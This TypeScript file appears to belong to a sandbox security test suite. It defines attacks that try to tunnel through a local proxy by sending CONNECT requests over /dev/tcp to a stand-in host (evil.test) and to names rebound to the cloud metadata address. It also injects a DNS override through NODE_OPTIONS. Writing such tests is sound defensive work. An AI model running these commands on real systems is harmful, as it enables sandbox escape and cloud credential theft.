/** A proxy of the machine, with requests for what commands may not reach. */

import { join } from 'node:path';
import type { Attack, Stage } from '../attack.ts';
import { shell, toSend } from '../goals.ts';

/** Asks the sandbox's proxy for a tunnel; the machine's proxy hears of it if it is passed on. */
function attack(id: string, what: string, host: string): Attack {
  return {
    id: `network-upstream-${id}`,
    category: 'Network',
    what,
    does: () =>
      shell(
        `exec 3<>/dev/tcp/127.0.0.1/17128; printf 'CONNECT ${host}:443 HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' >&3; timeout 5 head -n 1 <&3`,
      ),
    goal: toSend(host),
    heldBy: ['proxy'],
    // There is no proxy of ours, and nothing is promised.
    expected: { none: 'untried' },
  };
}

/** The answers of the machine's name server, which the attacker controls. */
const NAMES = {
  'metadata.public.test': ['169.254.169.254'],
  'mixed.public.test': ['93.184.216.34', '10.0.0.1'],
  'registry.corp.test': ['169.254.169.254'],
};

export const UPSTREAM: Stage = {
  name: 'upstream',
  args: ['--allow-domain', '*.public.test', '--allow-private', 'registry.corp.test'],
  prepare(victim) {
    const lookUp = `const names = ${JSON.stringify(NAMES)};
const dns = require('node:dns/promises');
dns.lookup = async (host) => (names[host] ?? []).map((address) => ({ address, family: 4 }));
require('node:module').syncBuiltinESMExports();`;
    victim.put(join(victim.folder, 'names.cjs'), lookUp);
  },
  env: ({ folder, listeners }) => ({
    NODE_OPTIONS: `--require=${join(folder, 'names.cjs')}`,
    HTTPS_PROXY: `http://127.0.0.1:${listeners.port}`,
  }),
  attacks: [
    attack('unlisted', "The machine's proxy, by a host that is not allowed", 'evil.test'),
    attack(
      'metadata',
      "The machine's proxy, by an allowed name that leads to the metadata service",
      'metadata.public.test',
    ),
    attack(
      'mixed',
      "The machine's proxy, by an allowed name that has a private address as well",
      'mixed.public.test',
    ),
    attack(
      'private',
      'A host allowed in a private network, with a name that now leads to the metadata service',
      'registry.corp.test',
    ),
  ],
};
